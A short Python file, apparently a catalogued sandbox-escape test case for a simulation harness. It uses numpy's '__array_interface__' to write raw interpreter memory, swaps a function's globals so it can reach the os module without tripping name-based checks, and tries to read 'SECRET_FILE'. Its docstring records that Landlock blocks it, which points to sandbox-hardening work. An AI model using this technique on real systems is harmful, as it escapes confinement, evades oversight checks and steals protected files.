"""Writes into the interpreter's memory through an array that says where it lies, and so gets other globals.

No dunder is read, no forbidden name is used: no check of the text sees it. Stopped by: landlock.
"""

import random

import numpy as np

from sim import Task

GLOBALS = 16  # bytes into a function object


class Memory:
    def __init__(self, address):
        self.address = address

    @property
    def __array_interface__(self):
        return {"version": 3, "shape": (1,), "typestr": "<u8", "data": (self.address, False)}


def reach():
    return _os  # noqa: F821


class Candidate(Task):
    def reset(self, env):
        super().reset(env)
        here, there = (id(function) + GLOBALS for function in (reach, random.Random.shuffle))
        np.asarray(Memory(here))[0] = np.asarray(Memory(there))[0]
        raise RuntimeError(f"ESCAPED: {reach().read(reach().open('SECRET_FILE', 0), 100)}")
